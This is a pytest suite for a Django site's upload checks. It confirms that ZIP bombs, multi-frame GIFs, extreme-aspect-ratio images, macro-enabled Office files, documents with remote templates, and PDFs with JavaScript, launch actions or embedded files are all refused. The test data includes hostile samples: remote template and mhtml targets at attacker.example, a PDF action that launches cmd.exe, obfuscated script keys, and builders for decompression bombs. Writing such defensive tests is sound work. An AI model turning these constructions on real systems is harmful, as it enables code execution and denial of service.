"""Uploads cannot take a worker down: hostile images and documents are refused or made harmless."""

import io
import json
import os
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from elections.models import Document
from medialibrary.models import Image as LibraryImage
from richtext import renditions as renditions_module
from richtext.documents import inspect_document
from richtext.renditions import CROPS

from .factories import image_upload, make_article, make_staff

pytestmark = pytest.mark.django_db

EDITOR_UPLOAD = "/editor/image-upload/"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>{}</Types>'
)
DOCX_MAIN = (
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
)
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
REL_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def upload_image(client, file):
    client.force_login(make_staff(groups=["Press staff"]))
    response = client.post(EDITOR_UPLOAD, {"upload": file}, headers={"accept-language": "en"})
    return response.status_code, json.loads(response.content)


def zip_bytes(members, compression=zipfile.ZIP_DEFLATED):
    """A ZIP archive of {name: bytes or str}."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(parts=(), content_types=DOCX_MAIN):
    """A Word document with the given {name: content} parts added."""
    members = {"[Content_Types].xml": CONTENT_TYPES.format(content_types), "word/document.xml": "<w:document/>"}
    return zip_bytes({**members, **dict(parts)})


def odt(parts=()):
    """An OpenDocument text with the given {name: content} parts added."""
    members = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office:document-content/>"}
    return zip_bytes({**members, **dict(parts)})


def refusal(content, name="document.docx"):
    with pytest.raises(ValidationError) as error:
        inspect_document(SimpleUploadedFile(name, content))
    return error.value


def pdf(*objects):
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, obj) for number, obj in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


# Animated GIFs ------------------------------------------------------------------------------------


def many_frame_gif(frames=120, size=(2000, 2000)):
    """A real animated GIF: two full frames encoded by Pillow, their blocks repeated."""
    buffer = io.BytesIO()
    first, second = (Image.new("RGB", size, colour) for colour in ((200, 30, 30), (30, 30, 200)))
    first.save(buffer, format="GIF", save_all=True, append_images=[second], duration=40)
    data = buffer.getvalue()
    packed = data[10]
    start = 13 + (3 * 2 ** ((packed & 7) + 1) if packed & 0x80 else 0)  # after the global colour table
    assert data.endswith(b";")
    gif = data[:start] + data[start:-1] * (frames // 2) + b";"
    assert Image.open(io.BytesIO(gif)).n_frames == frames
    return gif


def test_animated_gif_is_stored_as_its_first_frame_only(client, settings):
    gif = many_frame_gif()
    status, data = upload_image(client, SimpleUploadedFile("animated.gif", gif, content_type="image/gif"))
    assert status == 200
    with Image.open(settings.MEDIA_ROOT / data["url"].removeprefix("/media/")) as stored:
        assert stored.format == "GIF"
        assert stored.size == (2000, 2000)
        assert getattr(stored, "n_frames", 1) == 1


# Extreme aspect ratios and renditions -------------------------------------------------------------


@pytest.mark.parametrize("size", [(40_000_000, 1), (1, 2000)])
def test_image_with_an_extreme_aspect_ratio_is_refused(client, size):
    buffer = io.BytesIO()
    Image.new("L", size).save(buffer, format="PNG")
    status, data = upload_image(client, SimpleUploadedFile("strip.png", buffer.getvalue(), content_type="image/png"))
    assert status == 400
    assert "too narrow or too wide" in data["error"]["message"]


def test_panorama_within_the_aspect_ratio_limit_is_accepted(client):
    status, _data = upload_image(client, image_upload("panorama.png", size=(2000, 200)))
    assert status == 200


def count_makes(monkeypatch):
    calls = []
    make = renditions_module._make

    def counting_make(*args, **kwargs):
        calls.append(args)
        return make(*args, **kwargs)

    monkeypatch.setattr(renditions_module, "_make", counting_make)
    return calls


def test_public_page_never_makes_renditions_and_falls_back_to_the_original(client, settings, monkeypatch):
    from django.core.cache import cache, caches

    article = make_article(cover_image=image_upload(size=(800, 600)), cover_alt="Cover")
    for rendition in (settings.MEDIA_ROOT / "renditions").rglob("*.webp"):
        rendition.unlink()
    cache.clear()
    caches["local"].clear()  # a worker that has not seen the image
    calls = count_makes(monkeypatch)
    for url in (article.get_absolute_url(), "/en/news/"):
        html = client.get(url).content.decode()
        assert f'src="{article.cover_image.file.url}"' in html
        assert 'type="image/webp"' not in html
    assert calls == []
    assert not list((settings.MEDIA_ROOT / "renditions").rglob("*.webp"))


def test_a_failed_rendition_is_remembered_and_not_retried(client, monkeypatch):
    article = make_article(cover_image=image_upload(size=(800, 600)), cover_alt="Broken")
    name = default_storage.save("news/covers/broken.png", io.BytesIO(b"\x89PNG\r\n\x1a\n not really an image"))
    LibraryImage.objects.filter(pk=article.cover_image_id).update(file=name)
    image = LibraryImage.objects.get(pk=article.cover_image_id)
    calls = count_makes(monkeypatch)
    image.save()
    assert len(calls) == len(CROPS) + 1  # each crop, and the uncropped sizes, tried once at save time
    image.save()
    for _request in range(3):
        assert client.get(article.get_absolute_url()).status_code == 200
    assert len(calls) == len(CROPS) + 1


# ZIP bombs ----------------------------------------------------------------------------------------


def zip_bomb(kind, megabytes=100):
    """A document whose main part is a long run of zeros: ~100 KB that expands to `megabytes` MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if kind == "odt":
            archive.writestr("content.xml", "<office:document-content/>")
            bomb = "mimetype"
        else:
            archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(DOCX_MAIN))
            bomb = "word/document.xml"
        zeros = bytes(1024 * 1024)
        with archive.open(bomb, "w") as member:
            for _megabyte in range(megabytes):
                member.write(zeros)
    return buffer.getvalue()


@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_zip_bomb_document_is_refused_without_reading_it_whole(kind):
    bomb = zip_bomb(kind)
    assert len(bomb) < 200_000
    tracemalloc.start()
    try:
        error = refusal(bomb, f"decision.{kind}")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert error.code == "archive_ratio"
    assert "possible archive bomb" in error.messages[0]
    assert peak < 10 * 1024 * 1024  # far below the 100 MB the bomb expands to


def test_document_that_expands_beyond_the_limit_is_refused(settings):
    settings.DOCUMENT_UPLOAD_MAX_EXPANDED_BYTES = 1024 * 1024
    content = docx({"word/media/photo.jpg": os.urandom(2 * 1024 * 1024)})  # incompressible: an honest ratio
    error = refusal(content)
    assert error.code == "archive_size"
    assert "expands to 2.0 MB when opened; the limit is 1.0 MB" in error.messages[0]


def test_document_with_too_many_entries_is_refused_before_its_directory_is_parsed(settings, monkeypatch):
    settings.DOCUMENT_UPLOAD_MAX_ENTRIES = 100
    content = docx({f"word/media/image{n}.png": b"x" for n in range(100)})
    monkeypatch.setattr(zipfile, "ZipFile", lambda *args, **kwargs: pytest.fail("the directory was parsed"))
    error = refusal(content)
    assert error.code == "archive_entries"
    assert "too many files inside it (102); the limit is 100" in error.messages[0]


def test_document_compressed_with_an_unusual_method_is_refused():
    members = {"[Content_Types].xml": CONTENT_TYPES.format(DOCX_MAIN), "word/document.xml": "<w:document/>"}
    error = refusal(zip_bytes(members, compression=zipfile.ZIP_BZIP2))
    assert error.code == "archive_method"


def test_zip_bomb_upload_in_the_registry_is_refused_on_the_form(client):
    from .test_elections_documents import document_form

    client.force_login(make_staff(groups=["Editors"]))
    bomb = SimpleUploadedFile("decision.docx", zip_bomb("docx"))
    response = client.post(
        "/admin/elections/document/add/", document_form(file_tk=bomb), headers={"accept-language": "en"}
    )
    assert response.status_code == 200
    assert "possible archive bomb" in response.content.decode()
    assert not Document.objects.exists()


# Macros and remote templates ----------------------------------------------------------------------

MACRO_DOCUMENTS = {
    "vba project in a docx": ("decision.docx", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "vba project in capitals": ("decision.docx", lambda: docx({"word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"})),
    "docm content type": (
        "decision.docx",
        lambda: docx(
            content_types='<Override PartName="/word/document.xml" '
            'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
    ),
    "xlsm content type under an xlsx name": (
        "results.xlsx",
        lambda: zip_bytes(
            {
                "[Content_Types].xml": CONTENT_TYPES.format(
                    '<Override PartName="/xl/workbook.xml" '
                    'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
                ),
                "xl/workbook.xml": "<workbook/>",
                "xl/code.bin": b"\xd0\xcf\x11\xe0",
            }
        ),
    ),
    "opendocument basic macros": ("minutes.odt", lambda: odt({"Basic/Standard/Module1.xml": "<script:module/>"})),
    "opendocument script on an event": (
        "minutes.odt",
        lambda: odt(
            {
                "content.xml": "<office:document-content><office:event-listeners><script:event-listener "
                'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
                "</office:event-listeners></office:document-content>"
            }
        ),
    ),
}


@pytest.mark.parametrize("case", MACRO_DOCUMENTS)
def test_macro_enabled_office_content_is_refused_whatever_its_extension(case):
    name, build = MACRO_DOCUMENTS[case]
    error = refusal(build(), name)
    assert error.code == "macros"
    assert "Macro-enabled documents are not accepted" in error.messages[0]


def external(rel_type, target):
    return RELS.format(
        f'<Relationship Id="rId1" Type="{REL_TYPES}{rel_type}" Target="{target}" TargetMode="External"/>'
    )


@pytest.mark.parametrize(
    ("part", "rel_type", "target"),
    [
        ("word/_rels/settings.xml.rels", "attachedTemplate", "http://attacker.example/template.dotm"),
        ("word/_rels/settings.xml.rels", "attachedTemplate", "\\\\attacker.example\\share\\template.dotm"),
        ("word/_rels/settings.xml.rels", "attachedTemplate", "file://attacker.example/share/template.dotm"),
        ("word/_rels/settings.xml.rels", "attachedTemplate", "%5C%5Cattacker.example%5Cshare%5Ctemplate.dotm"),
        ("word/_rels/document.xml.rels", "oleObject", "mhtml:http://attacker.example/x.html!x-usc:http://a/x"),
        ("word/_rels/document.xml.rels", "image", "https://tracker.example/pixel.png"),
    ],
)
def test_document_loading_content_from_outside_is_refused(part, rel_type, target):
    error = refusal(docx({part: external(rel_type, target)}))
    assert error.code == "remote_content"
    assert "loads a template or other content from outside the file" in error.messages[0]


def test_document_with_hyperlinks_and_a_template_on_the_authors_computer_is_accepted():
    content = docx(
        {
            "word/_rels/document.xml.rels": external("hyperlink", "https://saylaw.gov.tm/"),
            "word/_rels/settings.xml.rels": external(
                "attachedTemplate", "file:///C:\\Users\\clerk\\AppData\\Roaming\\Microsoft\\Templates\\Decision.dotx"
            ),
        }
    )
    assert inspect_document(SimpleUploadedFile("decision.docx", content)) == "docx"


def test_macro_document_upload_in_the_registry_is_refused_on_the_form_with_its_reason(client):
    from .test_elections_documents import document_form

    client.force_login(make_staff(groups=["Editors"]))
    upload = SimpleUploadedFile("decision.docx", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    response = client.post(
        "/admin/elections/document/add/", document_form(file_tk=upload), headers={"accept-language": "en"}
    )
    assert response.status_code == 200
    assert "Macro-enabled documents are not accepted" in response.content.decode()
    assert not Document.objects.exists()


# PDFs ---------------------------------------------------------------------------------------------

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def object_stream(*objects):
    content = b" ".join(objects)
    compressed = zlib.compress(b"3 0 " + content)
    return b"<< /Type /ObjStm /N %d /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(objects),
        len(compressed),
        compressed,
    )


@pytest.mark.parametrize(
    ("objects", "code"),
    [
        ((CATALOG % b"/OpenAction 3 0 R", PAGES, b"<< /S /JavaScript /JS (app.alert(1)) >>"), "pdf_script"),
        ((CATALOG % b"/AA << /O 3 0 R >>", PAGES, b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"), "pdf_script"),
        ((CATALOG % b"/OpenAction 3 0 R", PAGES, object_stream(b"<< /S /JavaScript /JS (x) >>")), "pdf_script"),
        ((CATALOG % b"/AcroForm << /XFA 3 0 R >>", PAGES, b"<< >>"), "pdf_script"),
        ((CATALOG % b"/OpenAction 3 0 R", PAGES, b"<< /S /Launch /F (cmd.exe) >>"), "pdf_launch"),
        ((CATALOG % b"/Names << /EmbeddedFiles 3 0 R >>", PAGES, b"<< /Names [(a.exe) 4 0 R] >>"), "pdf_embedded"),
    ],
)
def test_pdf_carrying_javascript_launch_actions_or_attached_files_is_refused(objects, code):
    error = refusal(pdf(*objects), "decision.pdf")
    assert error.code == code


def test_pdf_whose_object_streams_cannot_be_checked_is_refused():
    hidden = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 9 >>\nstream\nnot zlib!\nendstream"
    error = refusal(pdf(CATALOG % b"", PAGES, hidden), "decision.pdf")
    assert error.code == "pdf_unchecked"


def test_pdf_object_stream_that_expands_beyond_the_limit_is_refused(settings):
    settings.DOCUMENT_UPLOAD_MAX_EXPANDED_BYTES = 1024 * 1024
    bomb = object_stream(b" " * (3 * 1024 * 1024) + b"<< /Title (x) >>")
    error = refusal(pdf(CATALOG % b"", PAGES, bomb), "decision.pdf")
    assert error.code == "archive_size"


def test_ordinary_opendocument_text_is_accepted():
    assert inspect_document(SimpleUploadedFile("minutes.odt", odt({"styles.xml": "<office:styles/>"}))) == "odt"


def test_ordinary_pdf_with_an_open_action_and_compressed_objects_is_accepted():
    content = pdf(CATALOG % b"/OpenAction [2 0 R /Fit]", PAGES, object_stream(b"<< /Title (Decision) >>"))
    assert inspect_document(SimpleUploadedFile("decision.pdf", content)) == "pdf"
